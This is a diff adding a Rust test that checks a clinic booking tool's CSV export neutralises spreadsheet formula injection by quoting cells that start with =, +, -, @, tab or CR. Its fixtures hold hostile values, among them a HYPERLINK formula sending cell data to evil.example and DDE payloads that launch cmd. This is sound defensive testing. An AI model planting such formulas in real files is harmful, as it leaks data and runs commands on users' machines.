@@ -877,6 +877,79 @@ fn csv_has_a_header_and_rfc4180_quoting() {
     assert!(stored.contains("\"me duele\", luego; se fue"));
 }
 
+#[test]
+fn csv_text_a_spreadsheet_would_run_starts_with_a_quote_and_phones_stay() {
+    // SPEC §10 (OWASP's CSV injection rule); JSON Lines keep the text as stored.
+    let env = Env::clinic();
+    let hostile = [
+        (
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ver\")",
+            "@SUM(1)",
+            "+cmd|' /C calc'!A0",
+        ),
+        ("-2+3+cmd|' /C calc'!A0", "=TAB()", "=1+1"),
+        ("@Ana", "+1", "-1"),
+    ];
+    for (i, (name, reason, reference)) in hostile.iter().enumerate() {
+        env.ok(&[
+            "book",
+            "--doctor",
+            "Dr. García",
+            "--date",
+            "2026-06-16",
+            "--time",
+            &format!("{:02}:00", 9 + i),
+            "--phone",
+            &format!("+5037000000{i}"),
+            &format!("--name={name}"),
+            &format!("--reason={reason}"),
+            &format!("--notes={reason}"),
+            &format!("--external-ref={reference}"),
+        ]);
+    }
+    let objects = json_lines(&export(&env, &["--format", "jsonl"]));
+    let csv_bytes = export(&env, &["--format", "csv"]);
+    let mut reader = csv::Reader::from_reader(&csv_bytes[..]);
+    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
+    let rows: Vec<Vec<String>> = reader
+        .records()
+        .map(|r| r.unwrap().iter().map(String::from).collect())
+        .collect();
+    assert_eq!(rows.len(), hostile.len());
+    let text_columns = [
+        "patient.full_name",
+        "reason",
+        "notes",
+        "external_reference_id",
+        "doctor.full_name",
+        "source",
+        "session",
+    ];
+    let mut quoted = 0;
+    for (row, obj) in rows.iter().zip(&objects) {
+        let mut fields = std::collections::BTreeMap::new();
+        flat(obj, "", &mut fields);
+        for (col, cell) in header.iter().zip(row) {
+            let stored = fields.get(col).cloned().unwrap_or_default();
+            let runs = stored.starts_with(['=', '+', '-', '@', '\t', '\r']);
+            if col == "patient.phone" {
+                assert!(stored.starts_with('+'), "{stored}");
+                assert_eq!(cell, &stored, "a validated phone is written as it is");
+            } else if runs {
+                assert!(text_columns.contains(&col.as_str()), "{col}: {stored:?}");
+                assert_eq!(cell, &format!("'{stored}"), "{col}");
+                quoted += 1;
+            } else {
+                assert_eq!(cell, &stored, "{col}");
+            }
+        }
+    }
+    // Every hostile value kept its first character, so each was quoted.
+    assert_eq!(quoted, 12, "{rows:?}");
+    assert_eq!(objects[0]["patient"]["full_name"], hostile[0].0);
+    assert_eq!(objects[0]["external_reference_id"], hostile[0].2);
+}
+
 // ---------------------------------------------------------------------------
 // Filters
 
